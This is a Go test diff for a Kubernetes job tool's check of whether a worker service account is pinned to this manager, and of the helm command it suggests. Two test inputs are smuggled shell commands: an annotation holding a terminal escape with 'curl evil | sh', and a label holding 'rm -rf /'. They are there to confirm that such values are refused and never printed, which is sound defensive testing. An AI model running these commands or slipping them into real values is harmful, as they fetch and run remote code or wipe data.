@@ -267,13 +267,14 @@ func equalCounts(a, b map[string]int) bool {
 
 func TestCheckPinned(t *testing.T) {
 	pinnedTo := func(id string) *corev1.ServiceAccount {
-		sa := &corev1.ServiceAccount{}
-		if id != "" {
+		sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app.kubernetes.io/instance": "jf-worker"}}}
+		if id != "none" {
 			sa.Annotations = map[string]string{ManagerIDAnnotation: id}
 		}
 		return sa
 	}
-	ours := managerID{id: "0123456789abcdef"}
+	pin := (&joinOptions{workerContext: "gpu-east", workerNamespace: "jobferry-system", workerKubeconfig: "/home/me/east.kubeconfig"}).pinCommand()
+	ours := managerID{namespace: "jobferry-system", id: "0123456789abcdef"}
 	unreadable := managerID{unreadable: errors.New(`namespaces is forbidden: User "joiner" cannot list resource "namespaces"`)}
 	for _, tc := range []struct {
 		name              string
@@ -282,17 +283,22 @@ func TestCheckPinned(t *testing.T) {
 		wantWarn, wantErr string
 	}{
 		{name: "pinned to this manager", sa: pinnedTo("0123456789abcdef"), manager: ours},
-		{name: "not pinned", sa: pinnedTo(""), manager: ours,
-			wantWarn: "is not pinned to this manager: its admission policy lets the manager identity write Jobs in any jobferry manager's namespaces there. Pin it with `helm upgrade jobferry-worker <chart> -n jobferry-system --reuse-values --set managerIdentity.managerID=0123456789abcdef`"},
+		{name: "not pinned", sa: pinnedTo("none"), manager: ours,
+			wantWarn: "is not pinned to this manager (ID 0123456789abcdef, of namespace jobferry-system): its admission policies let the manager identity write Jobs, and relabel namespaces, in any jobferry manager's namespaces there. Pin it with\n" +
+				"  helm upgrade jf-worker <chart> -n jobferry-system --kube-context gpu-east --kubeconfig /home/me/east.kubeconfig --reset-then-reuse-values --set-string managerIdentity.managerID=0123456789abcdef"},
 		{name: "pinned to another manager", sa: pinnedTo("fedcba9876543210"), manager: ours,
-			wantErr: "is pinned to manager fedcba9876543210, not to this one (0123456789abcdef): its admission policy would refuse every mirror this manager creates there. Install it for this manager with --set managerIdentity.managerID=0123456789abcdef"},
+			wantErr: "is pinned to manager fedcba9876543210, not to this one (ID 0123456789abcdef, of namespace jobferry-system: is --jobferry-namespace the manager's?): its admission policies would refuse every mirror this manager creates there. This manager needs an identity of its own there; pinning this one to it instead (helm upgrade jf-worker"},
+		{name: "pinned to no ID", sa: pinnedTo("x\x1b[2J; curl evil | sh"), manager: ours,
+			wantErr: `is pinned to "x\x1b[2J; curl evil | sh", which is no manager's installation ID`},
+		{name: "pinned to the empty ID", sa: pinnedTo(""), manager: ours,
+			wantErr: `is pinned to "", which is no manager's installation ID`},
 		{name: "pinned, this manager's ID unreadable", sa: pinnedTo("fedcba9876543210"), manager: unreadable,
 			wantWarn: "is pinned to manager fedcba9876543210; this manager's ID could not be read to compare (namespaces is forbidden"},
-		{name: "not pinned, this manager's ID unreadable", sa: pinnedTo(""), manager: unreadable,
+		{name: "not pinned, this manager's ID unreadable", sa: pinnedTo("none"), manager: unreadable,
 			wantWarn: "is not pinned to a manager (managerIdentity.managerID), and this manager's ID could not be read to name it"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			warning, err := checkPinned(tc.sa, "gpu-east", "jobferry-system", tc.manager)
+			warning, err := checkPinned(tc.sa, pin, tc.manager)
 			if (tc.wantWarn == "") != (warning == "") || !strings.Contains(warning, tc.wantWarn) {
 				t.Errorf("warning %q, want one saying %q", warning, tc.wantWarn)
 			}
@@ -303,5 +309,11 @@ func TestCheckPinned(t *testing.T) {
 				t.Errorf("%q does not name the worker's context", msg)
 			}
 		})
+	}
+	// A release label that is no release name is not printed.
+	sa := pinnedTo("none")
+	sa.Labels["app.kubernetes.io/instance"] = "a b; rm -rf /"
+	if got := pin.forID(sa, "0123456789abcdef"); !strings.HasPrefix(got, "helm upgrade jobferry-worker <chart>") {
+		t.Errorf("forID = %q, want the default release name", got)
 	}
 }
